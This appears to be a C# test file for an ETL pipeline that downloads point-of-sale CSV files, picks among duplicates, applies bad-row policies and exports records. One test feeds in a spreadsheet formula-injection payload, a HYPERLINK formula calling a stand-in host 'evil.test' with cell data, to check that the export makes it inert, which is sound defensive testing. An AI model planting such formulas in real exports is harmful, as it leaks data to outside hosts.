using System.Globalization;
using System.Text;
using System.Text.Json;
using CsvHelper;
using Microsoft.EntityFrameworkCore;
using OpsConsole.Core.Etl;
using OpsConsole.Tests.TestSupport;

namespace OpsConsole.Tests.Core.Etl;

/// <summary>
/// One job through the real runners and pipeline against a file host of the test's own (<see cref="EtlFileHostStub"/>):
/// the file choice, the bad-row policies, what a broken download leaves behind, and hostile text on its way to the export.
/// </summary>
public sealed class EtlPipelineTests
{
    public static TheoryData<string> Providers => new("Sqlite", "PostgreSql");

    private static readonly DateOnly Day = new(2026, 11, 20);
    private const string Header = "date,time,tnsc,item_code,dept,qty,amount,payment\n";

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private static string Rows(int count, string prefix = "T") =>
        Header + string.Concat(Enumerable.Range(1, count).Select(i => $"2026-11-20,08:{i % 60:D2}:00,{prefix}{i},ITM-{i},DRY,1,2.50,card\n"));

    private static async Task<CoreHost> StartAsync(EtlFileHostStub files, string provider = "Sqlite", ParserConfig? parser = null)
    {
        var host = await CoreHost.StartAsync(provider, settings: new Dictionary<string, string?> { ["Etl:MaxAttempts"] = "1" }, services: files.Register);
        await using var db = await host.DbAsync();
        db.Branches.Add(new Branch { Id = "B1", Name = "One", PosCount = 1, ActiveFrom = Day.AddDays(-30), ParserConfigJson = (parser ?? ParserConfig.Default).ToJson() });
        await db.SaveChangesAsync(Ct);
        return host;
    }

    /// <summary>Queues B1's job for <see cref="Day"/>, lets the runners drain the queue, and gives the job as it ended.</summary>
    private static async Task<EtlJob> RunJobAsync(CoreHost host)
    {
        var id = Guid.NewGuid();
        await using (var db = await host.DbAsync())
        {
            var now = DateTime.UtcNow;
            db.EtlJobs.Add(new EtlJob { Id = id, BranchId = "B1", Pos = 1, WorkDate = Day, Status = EtlJobStatus.Queued, MaxAttempts = 1, CreatedBy = "test", CreatedAt = now, QueuedAt = now });
            await db.SaveChangesAsync(Ct);
        }
        await host.Get<EtlRunnerPool>().DrainAsync(Ct);
        await using (var db = await host.DbAsync())
        {
            return await db.EtlJobs.AsNoTracking().SingleAsync(j => j.Id == id, Ct);
        }
    }

    [Fact]
    public async Task SeveralFilesOfAType_TheOneWithTheMostRowsIsStored_AndTheReasonSaysSo()
    {
        var files = new EtlFileHostStub()
            .Serve("B1_1_20261120_rd5000_1.csv", "rd5000", Rows(3, "A"))
            .Serve("B1_1_20261120_rd5000_2.csv", "rd5000", Rows(5, "B"))
            .Serve("B1_1_20261120_rd5000_3.csv", "rd5000", Rows(4, "C") + "\n\n")
            .Serve("B1_1_20261120_rd5500_1.csv", "rd5500", Rows(2, "D"));
        await using var host = await StartAsync(files);

        var job = await RunJobAsync(host);

        job.Status.Should().Be(EtlJobStatus.Succeeded, job.Error);
        job.RecordCount.Should().Be(5 + 2);
        await using var db = await host.DbAsync();
        var stored = await db.EtlRecords.Where(r => r.JobId == job.Id).Select(r => r.Tnsc).ToListAsync(Ct);
        stored.Should().BeEquivalentTo(["B1", "B2", "B3", "B4", "B5", "D1", "D2"], "only the chosen file of each type is stored");
        var downloaded = await db.EtlFiles.Where(f => f.JobId == job.Id).ToListAsync(Ct);
        downloaded.Select(f => (f.FileName, f.RowCount, f.Chosen)).Should().BeEquivalentTo(new[]
        {
            ("B1_1_20261120_rd5000_1.csv", 3, false), ("B1_1_20261120_rd5000_2.csv", 5, true),
            ("B1_1_20261120_rd5000_3.csv", 4, false), ("B1_1_20261120_rd5500_1.csv", 2, true),
        });
        var chosen = JsonDocument.Parse(job.ChosenFilesJson!).RootElement.EnumerateArray()
            .ToDictionary(c => c.GetProperty("type").GetString()!, c => c.GetProperty("reason").GetString()!);
        chosen["rd5000"].Should().Be("most rows (5) of 3 rd5000 files; others had 4, 3");
        chosen["rd5500"].Should().Be("the only rd5500 file (2 rows)");
    }

    [Fact]
    public void Choose_OnEqualRows_TakesTheLargerFile_ThenTheFirstName()
    {
        EtlFile File(string name, int rows, long bytes) => new() { FileName = name, FileType = "rd5000", BranchId = "B1", Sha256 = new string('0', 64), RowCount = rows, SizeBytes = bytes };
        var larger = new List<EtlFile> { File("b.csv", 10, 500), File("a.csv", 10, 400) };
        EtlPipeline.Choose(larger).Single().Name.Should().Be("b.csv");
        var same = new List<EtlFile> { File("b.csv", 10, 500), File("a.csv", 10, 500) };
        EtlPipeline.Choose(same).Single().Name.Should().Be("a.csv");
    }

    [Theory]
    [MemberData(nameof(Providers))]
    public async Task FailPolicy_ABadRowFailsTheJob_NamingTheFileAndLine_AndStoresNothing(string provider)
    {
        // Enough good rows before the bad one that the writer has sent some to the database when it meets it.
        var good = Rows(3000);
        var files = new EtlFileHostStub().Serve("B1_1_20261120_rd5000_1.csv", "rd5000", good + "2026-11-20,09:00:00,T9,ITM-9,DRY,lots,2.50,card\n" + Rows(2)[Header.Length..]);
        await using var host = await StartAsync(files, provider, ParserConfig.Default with { BadRows = BadRowPolicy.Fail });

        var job = await RunJobAsync(host);

        job.Status.Should().Be(EtlJobStatus.Failed);
        job.Error.Should().Contain("policy is to fail the job").And.Contain("B1_1_20261120_rd5000_1.csv line 3002").And.Contain("quantity");
        job.Attempts.Should().Be(1, "the same file fails the same way: no retry");
        await using var db = await host.DbAsync();
        (await db.EtlRecords.CountAsync(r => r.JobId == job.Id, Ct)).Should().Be(0, "nothing of a failed job is stored");
    }

    [Fact]
    public async Task SkipPolicy_TheSameFileSucceeds_CountingTheBadRow()
    {
        var files = new EtlFileHostStub().Serve("B1_1_20261120_rd5000_1.csv", "rd5000", Rows(3) + "2026-11-20,09:00:00,T9,ITM-9,DRY,lots,2.50,card\n");
        await using var host = await StartAsync(files, parser: ParserConfig.Default with { BadRows = BadRowPolicy.Skip });

        var job = await RunJobAsync(host);

        job.Status.Should().Be(EtlJobStatus.Succeeded, job.Error);
        (job.RecordCount, job.BadRowCount).Should().Be((3, 1));
    }

    [Fact]
    public async Task AQuoteThatNeverCloses_FailsTheJobEvenWhenBadRowsAreSkipped_NamingTheLine()
    {
        var files = new EtlFileHostStub().Serve("B1_1_20261120_rd5000_1.csv", "rd5000",
            Rows(1) + "2026-11-20,09:00:00,T9,ITM-9,\"DRY,1,2.50,card\n" + Rows(40)[Header.Length..]);
        await using var host = await StartAsync(files, parser: ParserConfig.Default with { BadRows = BadRowPolicy.Skip });

        var job = await RunJobAsync(host);

        job.Status.Should().Be(EtlJobStatus.Failed, "skipping it would store 1 of 42 rows as the whole day");
        job.Error.Should().Contain("B1_1_20261120_rd5000_1.csv line 3").And.Contain("a quote opened on line 3 is never closed, so lines 3–43 were read as one cell");
        await using var db = await host.DbAsync();
        (await db.EtlRecords.CountAsync(r => r.JobId == job.Id, Ct)).Should().Be(0);
    }

    [Fact]
    public async Task ADownloadThatBreaksOff_FailsTheJob_AndLeavesNoTemporaryFileInTheStore()
    {
        var files = new EtlFileHostStub()
            .Serve("B1_1_20261120_rd5000_1.csv", "rd5000", Rows(50))
            .ServeBrokenDownload("B1_1_20261120_rd5000_2.csv", "rd5000", Rows(500));
        await using var host = await StartAsync(files);

        var job = await RunJobAsync(host);

        job.Status.Should().Be(EtlJobStatus.Failed);
        job.Error.Should().Contain("Downloading B1_1_20261120_rd5000_2.csv failed");
        var store = host.Get<EtlOptions>().FileStore;
        Directory.EnumerateFiles(store, "*", SearchOption.AllDirectories).Select(Path.GetFileName)
            .Should().ContainSingle("only the file that arrived whole is kept, under its hash").Which.Should().MatchRegex("^[0-9a-f]{64}$");
    }

    [Theory]
    [MemberData(nameof(Providers))]
    public async Task HostileTextFromTheFileHost_IsExportedAsInertCells_NumbersAsTheyAre(string provider)
    {
        const string hyperlink = "=HYPERLINK(\"http://evil.test/?\"&A1,\"open\")";
        var files = new EtlFileHostStub().Serve("B1_1_20261120_rd5000_1.csv", "rd5000",
            Header + $"2026-11-20,08:00:00,-T1,\"{hyperlink.Replace("\"", "\"\"")}\",+DRY,-1,-2.50,@cash\n" +
            "2026-11-20,08:01:00,T2,ITM-2,DRY,1,2.50,card\n");
        await using var host = await StartAsync(files, provider);
        (await RunJobAsync(host)).Status.Should().Be(EtlJobStatus.Succeeded);

        using var output = new MemoryStream();
        await host.Get<EtlRecords>().ExportAsync(new RecordFilter(), output, Ct);
        using var csv = new CsvReader(new StringReader(Encoding.UTF8.GetString(output.ToArray())), CultureInfo.InvariantCulture);
        var rows = csv.GetRecords<dynamic>().Cast<IDictionary<string, object>>().Select(r => r.ToDictionary(c => c.Key, c => (string)c.Value)).ToList();

        var hostile = rows.Single(r => r["source_line"] == "2");
        (hostile["tnsc"], hostile["item_code"], hostile["department"], hostile["payment_method"])
            .Should().Be(("'-T1", "'" + hyperlink, "'+DRY", "'@cash"), "text from the file host that starts like a formula gets a single quote");
        (hostile["quantity"], hostile["amount"], hostile["work_date"]).Should().Be(("-1", "-2.5", "2026-11-20"), "numbers and dates the console formats stay as they are");
        rows.Single(r => r["source_line"] == "3")["item_code"].Should().Be("ITM-2");
    }
}
